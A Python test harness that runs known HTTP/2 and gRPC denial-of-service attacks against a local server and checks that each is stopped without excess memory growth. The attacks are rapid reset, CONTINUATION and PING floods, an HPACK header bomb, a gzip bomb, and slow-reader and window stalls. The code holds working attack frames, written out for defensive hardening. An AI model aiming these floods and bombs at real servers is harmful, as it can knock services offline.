#!/usr/bin/python3
"""Known attacks on HTTP/2 and gRPC servers, against serve on loopback, each
bounded in frames and time.

  attack.py PORT PID MIB    a line for each attack: is it stopped, and did the
                            memory of the server PID grow by at most MIB?  0:
                            memory is not checked

A flood must end with GOAWAY ENHANCE_YOUR_CALM, 11, or with the code that
HTTP/2 requires; attacks that only stall must not cost memory, and must end at
the limit that applies.
"""
import gzip
import re
import struct
import sys
import threading
import time

import wire
from wire import (CHAT, CONT, DATA, HEADERS, HELLO, PING, PRIORITY, RST,
                  SETTINGS, Wire, frame, message, say, setting, window)

PORT, PID, MIB = map(int, sys.argv[1:4])
MOST_FRAMES, MOST_SECONDS = 200000, 15
CALM = 11
REQUEST = [(':method', 'POST'), (':scheme', 'http'), (':path', CHAT),
           (':authority', 'localhost'), ('te', 'trailers'),
           ('content-type', 'application/grpc')]


def kib(field):
    with open('/proc/%d/status' % PID) as f:
        return int(re.search(field + r':\s+(\d+)', f.read()).group(1))


def forget_peak():
    with open('/proc/%d/clear_refs' % PID, 'w') as f:
        f.write('5')


START = kib('VmRSS')


def judged(name, run):
    """Check that run() returns '', which is else what is wrong, and the peak of
    memory since START."""
    forget_peak()
    try:
        wrong = run()
    except Exception as e:
        wrong = '%s %s' % (type(e).__name__, e)
    say(name, not wrong, wrong)
    grown = (kib('VmHWM') - START) >> 10
    if MIB:
        say(name + ', memory', grown < MIB, 'grew by %d MiB' % grown)


def flood(make, codes=(CALM,), before=None, read=True, step=500, acks=True,
          settle=False):
    """Send make(0), make(1), ... until the server ends the connection; return
    what is wrong.  `settle`: wait for a step's answers before the next step."""
    with Wire(PORT, acks=acks) as w:
        if before:
            before(w)
        sent, end = 0, time.monotonic() + MOST_SECONDS
        w.take(0.2)
        while sent < MOST_FRAMES and time.monotonic() < end:
            if not w.send(b''.join(make(w, i)
                                   for i in range(sent, sent + step))):
                break
            sent += step
            if settle:
                w.until(lambda: w.goaways or w.closed or
                        w.streams.get(ids(sent - 1), wire.NONE).over, 1)
            if read:
                w.take(0)
                if w.goaways or w.closed:
                    break
        if w.stuck and not read:
            return ''                   # it stopped reading: that is an end too
        if not w.end(5):
            return 'still open after %d' % sent
        if w.code() not in codes:
            return 'GOAWAY %s after %d, want %s' % (w.code(), sent, codes)
    return ''


def ids(i):
    return 2 * i + 1


def opened(w, i, end=False):
    return w.headers(ids(i), REQUEST, end)


def rapid_reset(w, i):
    return opened(w, i) + frame(RST, 0, ids(i), struct.pack('>I', 8))


def rapid_reset_of_calls(w, i):
    return (w.headers(ids(i), [(k, HELLO if k == ':path' else v)
                               for k, v in REQUEST]) +
            frame(DATA, 1, ids(i), wire.hello()) +
            frame(RST, 0, ids(i), struct.pack('>I', 8)))


def reset_by_window(w, i):
    return opened(w, i) + window(ids(i), wire.BIG)


def reset_by_no_window(w, i):
    return opened(w, i) + window(ids(i), 0)


def reset_by_data(w, i):
    return opened(w, i, True) + frame(DATA, 0, ids(i), b'')


def reset_by_length(w, i):
    return opened(w, i) + frame(RST, 0, ids(i), b'\0\0\0\x08\0')


def settings_frame(w, i):
    return frame(SETTINGS, 0, 0, setting(4, 65535 + i % 2))


def one_chat(w):
    w.open(1, CHAT)


def floods():
    yield 'rapid reset', lambda: flood(rapid_reset)
    yield 'rapid reset of whole calls', lambda: flood(rapid_reset_of_calls)
    # Newer versions of nghttp2 end the connection for it: FLOW_CONTROL_ERROR.
    yield 'reset by WINDOW_UPDATE overflow', \
        lambda: flood(reset_by_window, (CALM, 3), step=50, settle=True)
    yield 'reset by WINDOW_UPDATE of 0', \
        lambda: flood(reset_by_no_window, (CALM, 1), step=50, settle=True)
    yield 'reset by DATA after the end', \
        lambda: flood(reset_by_data, (CALM, 5), step=50, settle=True)
    yield 'reset by a wrong length', lambda: flood(reset_by_length, (CALM, 6))
    # Past a limit that it has acknowledged the library ends the connection.
    yield 'streams above the limit', lambda: flood(opened, (CALM, 1))
    yield 'streams above the limit, SETTINGS not acknowledged', \
        lambda: flood(opened, acks=False)
    yield 'PING flood', lambda: flood(
        lambda w, i: frame(PING, 0, 0, struct.pack('>Q', i)))
    yield 'PING flood, not reading', lambda: flood(
        lambda w, i: frame(PING, 0, 0, struct.pack('>Q', i)), read=False)
    yield 'SETTINGS flood', lambda: flood(settings_frame)
    yield 'SETTINGS flood, not reading', \
        lambda: flood(settings_frame, read=False)
    yield 'empty DATA flood', lambda: flood(
        lambda w, i: frame(DATA, 0, 1, b''), before=one_chat)
    yield 'PRIORITY flood', lambda: flood(
        lambda w, i: frame(PRIORITY, 0, ids(i), b'\0\0\0\0\x10'))
    yield 'PRIORITY flood on one stream', lambda: flood(
        lambda w, i: frame(PRIORITY, 0, 1, b'\0\0\0\0' + bytes([i & 255])),
        before=one_chat)
    yield 'flood of unknown frames', lambda: flood(
        lambda w, i: frame(0x7f, i & 255, 0, b''))
    yield 'WINDOW_UPDATE flood', lambda: flood(lambda w, i: window(0, 1))
    yield 'WINDOW_UPDATE flood on a stream', lambda: flood(
        lambda w, i: window(1, 1), before=one_chat)
    yield 'RST_STREAM flood on one closed stream', lambda: flood(
        lambda w, i: frame(RST, 0, 1, struct.pack('>I', 8)), (CALM, 1, 5),
        before=lambda w: w.open(1, CHAT))
    # The library breaks it off without a word.
    yield 'CONTINUATION flood', lambda: flood(
        lambda w, i: frame(CONT, 0, 1, b''), (CALM, 1, 2, None),
        before=lambda w: w.send(frame(HEADERS, 0, 1, b'\x82')))
    yield 'CONTINUATION flood of full frames', lambda: flood(
        lambda w, i: frame(CONT, 0, 1, b'\0\x01a\x7f\x80\1' + b'b' * 255),
        (CALM, 1, 2, None), step=20,
        before=lambda w: w.send(frame(HEADERS, 0, 1, b'\x82')))


def header_bomb():
    """A header of 4 KiB in HPACK's table, then 15,000 references to it."""
    for _ in range(50):
        with Wire(PORT) as w:
            # Literal, into the table; the entry that came last is number 62.
            big = b'\x40\x01a\x7f' + wire.varint(4000 - 127) + b'b' * 4000
            w.send(frame(HEADERS, 5, 1,
                         w.encoder.encode(REQUEST, huffman=False) + big))
            if w.answer(1, 1) == 'goaway 9':
                return 'the bomb itself is wrong'
            for s in range(3, 23, 2):
                w.send(frame(HEADERS, 5, s, b'\x83\x86' + b'\xbe' * 15000))
            w.until(lambda: w.closed or all(
                w.streams.get(s, wire.NONE).over for s in range(3, 23, 2)), 5)
            if any(x.status() == '0' for s, x in w.streams.items() if s > 1):
                return 'served'
            if not w.closed and not any(x.over for s, x in w.streams.items()
                                        if s > 1):
                return 'no answer'
            if w.code() == 9:
                return 'COMPRESSION_ERROR'
    return ''


def large_headers():
    """Header lists of 1 MiB, uncompressed."""
    for _ in range(20):
        with Wire(PORT) as w:
            w.open(1, HELLO, True, more=[('x-%d' % j, 'v' * 4000)
                                         for j in range(256)])
            got = w.answer(1, 5)
            if got not in ('8', 'http 431', 'reset 2', 'reset 11', 'closed',
                           'reset', 'goaway 11', 'goaway 2', 'goaway 1'):
                return 'answered ' + got
    return ''


def refused(run):
    """run(w, i) makes call i; each gets RESOURCE_EXHAUSTED, until the
    connection is ended for it."""
    with Wire(PORT) as w:
        w.take(0.2)
        for i in range(50):
            run(w, i)
            got = w.answer(ids(i))
            if got == 'goaway 11':
                break
            if got != '8':
                return 'answered ' + got
    return ''


BOMB = message(gzip.compress(b'\0' * (200 << 20), 9), 1)


def gzip_bomb(w, i):
    w.open(ids(i), more=[('grpc-encoding', 'gzip')])
    w.upload(ids(i), BOMB)


def huge_prefix(w, i):
    w.open(ids(i))
    w.data(ids(i), struct.pack('>BI', 0, 0xffffffff) + b'x')


def half_messages():
    """5,000 messages that announce 4 MiB and send one byte."""
    wires = [Wire(PORT) for _ in range(50)]
    for w in wires:
        for i in range(100):
            w.open(ids(i))
            w.data(ids(i), struct.pack('>BI', 0, (4 << 20) - 1) + b'\x0a')
    for w in wires:
        w.send(frame(PING, 0, 0, b'are you '))
        w.until(lambda: w.pongs or w.goaways, 5)
        if not w.pongs and not w.goaways:
            return 'no answer to a PING'
    for w in wires:
        w.sock.close()
    return ''


def slow_reader():
    """HTTP/2's windows are open, TCP's is not: 4 GB that nobody takes."""
    size = b'\x08' + wire.varint(1 << 16)
    sizes = b'\x12' + bytes([len(size)]) + size
    wires = [Wire(PORT, setting(4, wire.BIG), recv_buffer=4096)
             for _ in range(20)]
    for w in wires:
        w.send(window(0, wire.BIG - 65535))
        for i in range(10):
            w.call(ids(i), message(sizes * 320),
                   '/grpc.testing.TestService/StreamingOutputCall')
    time.sleep(3)
    for w in wires:
        w.until(lambda: any(s.data or s.ended for s in w.streams.values()), 5)
        if not any(s.data for s in w.streams.values()):
            return 'nothing came: ' + w.answer(1, 1)
        w.sock.close()
    return ''


def window_stall():
    """A thousand replies that the peer's windows of 0 keep waiting."""
    wires = [Wire(PORT, setting(4, 0)) for _ in range(10)]
    for w in wires:
        w.take(0.2)
        for i in range(100):
            w.open(ids(i))
            if not w.upload(ids(i), wire.hello(b'n' * 20000)):
                break
    for w in wires:
        w.until(lambda: any(s.blocks for s in w.streams.values()), 5)
        if any(s.data for s in w.streams.values()):
            return 'DATA without a window'
        if not any(s.blocks for s in w.streams.values()):
            return 'no answer'
        w.sock.close()
    return ''


def trickle():
    """One byte of window at a time for a reply of 16 KB."""
    with Wire(PORT, setting(4, 0)) as w:
        w.take(0.2)
        w.open(1)
        w.upload(1, wire.hello(b'n' * 16000))
        for _ in range(2000):
            if not w.send(window(1, 1)) or not w.take(0) or w.goaways:
                break
    return ''


def silent(name, start, codes):
    """A client that goes silent: does the server close its connection?"""
    def run():
        with Wire(PORT, start=False) as w:
            w.answers = True
            start(w)
            if not w.end(MOST_SECONDS + 5):
                return 'still open after %d s' % (MOST_SECONDS + 5)
            if w.goaways and w.code() not in codes:
                return 'GOAWAY %d' % w.code()
        return ''
    return name, run


def drip(w):
    """A byte of the preface a second."""
    for i in range(MOST_SECONDS):
        if not w.send(wire.MAGIC[i:i + 1]) or not w.take(1):
            break


HELLO_THERE = wire.MAGIC + frame(SETTINGS)
SILENT = [
    silent('nothing said', lambda w: None, ()),
    silent('slow preface', lambda w: w.send(wire.MAGIC[:5]), (0, 1, CALM)),
    silent('preface a byte a second', drip, (0, 1, CALM)),
    silent('preface without SETTINGS', lambda w: w.send(wire.MAGIC),
           (0, 1, 4, CALM)),
    silent('half a header block',
           lambda w: w.send(HELLO_THERE + frame(HEADERS, 0, 1, b'\x82')),
           (0, 1, 2, CALM)),
    silent('half a frame', lambda w: w.send(HELLO_THERE + b'\0\x10\0\1\4'),
           (0, 1, 2, CALM)),
]


def main():
    # Attacks that wait for a time limit run in parallel.
    slow = {}

    def wait(name, run):
        try:
            slow[name] = run()
        except Exception as e:
            slow[name] = '%s %s' % (type(e).__name__, e)

    threads = [threading.Thread(target=wait, args=one) for one in SILENT]
    for t in threads:
        t.start()
    for name, run in floods():
        judged(name, run)
    for name, run in (('header bomb', header_bomb),
                      ('header lists of 1 MiB', large_headers),
                      ('gzip bomb', lambda: refused(gzip_bomb)),
                      ('huge length prefixes', lambda: refused(huge_prefix)),
                      ('half messages', half_messages),
                      ('slow reader', slow_reader),
                      ('window stall', window_stall),
                      ('window a byte at a time', trickle)):
        judged(name, run)
    for t in threads:
        t.join()
    for name, wrong in slow.items():
        say(name + ' is ended', not wrong, wrong)


main()
